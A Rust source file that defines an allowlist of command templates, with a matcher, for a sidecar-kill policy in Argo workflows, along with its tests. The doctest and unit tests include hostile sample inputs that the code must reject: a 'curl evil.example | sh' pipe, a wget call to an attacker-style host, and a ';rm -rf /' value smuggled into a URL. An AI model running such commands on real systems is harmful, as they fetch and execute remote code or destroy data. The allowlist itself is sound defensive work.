//! The command catalogue: every argv this policy can put in an `exec` or `ephemeral` step,
//! except a pod's own kill-cmd annotation, as templates.
//!
//! A host must not run whatever a module answers: a swapped-in module is code from outside.
//! So `sidekill_policy_info` publishes this catalogue (`commands`, ABI 1.4), signed with the
//! module, and a host runs an argv only when it is the pod's own
//! `workflows.argoproj.io/kill-cmd-<container>` rendered with the step's signal, or when it
//! matches one of these templates ([`matches`]). A hole matches only a narrow token (a
//! number, a loopback address, a URL path, a process name), never a space or a shell
//! metacharacter, so a catalogue entry cannot be stretched into another command.
//!
//! This crate's tests plan every vector and every real-world fixture and check that each
//! argv the plans contain matches the catalogue: the catalogue is complete, or the tests fail.
//!
//! ```
//! use sidekill_policy::catalogue::{matches, COMMANDS};
//!
//! let argv = ["/bin/sh", "-c", "kill -15 1"].map(String::from);
//! assert!(COMMANDS.iter().any(|t| matches(t, &argv, 15)));
//! let evil = ["/bin/sh", "-c", "curl evil.example | sh"].map(String::from);
//! assert!(!COMMANDS.iter().any(|t| matches(t, &evil, 15)));
//! ```

use alloc::string::String;

use crate::argo::{ARGO_BIN_EXEC, VAR_RUN_ARGO_EXEC};
use crate::method::QUITTER_PATH;

/// The templates. In an element, `%d` stands for the step's signal number; a whole element
/// may instead be one hole:
/// - `{port}`: a TCP port, 1 to 65535;
/// - `{loopback}`: `127.0.0.1:PORT`, `localhost:PORT` or `[::1]:PORT`;
/// - `{url}`: `http://` + a `{loopback}` + a `{path}`;
/// - `{path}`: `/` and then letters, digits and `/_.-`;
/// - `{method}`: `GET`, `POST` or `PUT`;
/// - `{name}`: a process name, 1 to 64 of letters, digits and `._-`.
pub const COMMANDS: &[&[&str]] = &[
    // The default, and Argo's own.
    &["/bin/sh", "-c", "kill -%d 1"],
    &[ARGO_BIN_EXEC, "kill", "%d", "1"],
    &[VAR_RUN_ARGO_EXEC, "kill", "%d", "1"],
    // Presets (presets.rs).
    &["pilot-agent", "request", "POST", "quitquitquit"],
    &["wget", "-q", "-O-", "--post-data=", "{url}"],
    &["/cloud-sql-proxy", "shutdown"],
    &["/cloud-sql-proxy", "shutdown", "--admin-port", "{port}"],
    &[
        "/usr/lib/linkerd/linkerd-await",
        "--port",
        "{port}",
        "--shutdown",
        "--",
        "/bin/sleep",
        "0",
    ],
    &["/busybox/busybox", "killall", "-%d", "kuma-dp"],
    // The ephemeral quitter (method.rs).
    &[QUITTER_PATH, "http", "{method}", "{loopback}", "{path}"],
    &[QUITTER_PATH, "signal", "%d", "--process", "{name}"],
];

/// Whether `argv` is `template` with its holes filled and `%d` replaced by `signal`.
pub fn matches(template: &[&str], argv: &[String], signal: u8) -> bool {
    template.len() == argv.len()
        && template
            .iter()
            .zip(argv)
            .all(|(t, a)| element_matches(t, a, signal))
}

fn element_matches(template: &str, arg: &str, signal: u8) -> bool {
    match template {
        "{port}" => number_in(arg, 1, 65_535),
        "{loopback}" => is_loopback(arg),
        "{url}" => arg
            .strip_prefix("http://")
            .and_then(|rest| rest.find('/').map(|i| rest.split_at(i)))
            .is_some_and(|(host, path)| is_loopback(host) && is_path(path)),
        "{path}" => is_path(arg),
        "{method}" => matches!(arg, "GET" | "POST" | "PUT"),
        "{name}" => {
            (1..=64).contains(&arg.len())
                && arg
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
        }
        literal => match literal.split_once("%d") {
            Some((before, after)) => arg
                .strip_prefix(before)
                .and_then(|rest| rest.strip_suffix(after))
                .is_some_and(|n| n.parse::<u8>().ok() == Some(signal) && !n.starts_with('0')),
            None => literal == arg,
        },
    }
}

fn number_in(text: &str, low: u32, high: u32) -> bool {
    !text.starts_with('0')
        && text.len() <= 5
        && text.parse::<u32>().is_ok_and(|n| (low..=high).contains(&n))
}

fn is_loopback(text: &str) -> bool {
    let Some((host, port)) = text.rsplit_once(':') else {
        return false;
    };
    matches!(host, "127.0.0.1" | "localhost" | "[::1]") && number_in(port, 1, 65_535)
}

fn is_path(text: &str) -> bool {
    text.starts_with('/')
        && text.len() <= 256
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/_.-".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use alloc::string::String;
    use alloc::vec::Vec;

    fn argv(parts: &[&str]) -> Vec<String> {
        parts.iter().map(|s| String::from(*s)).collect()
    }

    fn known(parts: &[&str], signal: u8) -> bool {
        COMMANDS.iter().any(|t| matches(t, &argv(parts), signal))
    }

    #[test]
    fn the_policys_commands_match_and_their_neighbours_do_not() {
        assert!(known(&["/bin/sh", "-c", "kill -9 1"], 9));
        // The signal is the step's: a SIGTERM step cannot carry a SIGKILL command.
        assert!(!known(&["/bin/sh", "-c", "kill -9 1"], 15));
        assert!(!known(&["/bin/sh", "-c", "kill -015 1"], 15));
        assert!(known(
            &[
                "wget",
                "-q",
                "-O-",
                "--post-data=",
                "http://127.0.0.1:15020/quitquitquit"
            ],
            15
        ));
        assert!(!known(
            &[
                "wget",
                "-q",
                "-O-",
                "--post-data=",
                "http://evil.example:80/x"
            ],
            15
        ));
        assert!(!known(
            &[
                "wget",
                "-q",
                "-O-",
                "--post-data=",
                "http://127.0.0.1:80/x;rm -rf /"
            ],
            15
        ));
        assert!(known(
            &["/sidekill-quitter", "signal", "15", "--process", "envoy"],
            15
        ));
        assert!(!known(
            &["/sidekill-quitter", "signal", "15", "--process", "a b"],
            15
        ));
        assert!(!known(
            &["/sidekill-quitter", "http", "POST", "10.0.0.1:80", "/quit"],
            15
        ));
        assert!(!known(
            &["/cloud-sql-proxy", "shutdown", "--admin-port", "0"],
            15
        ));
        assert!(!known(&["/bin/sh", "-c", "kill -15 1", "extra"], 15));
    }
}
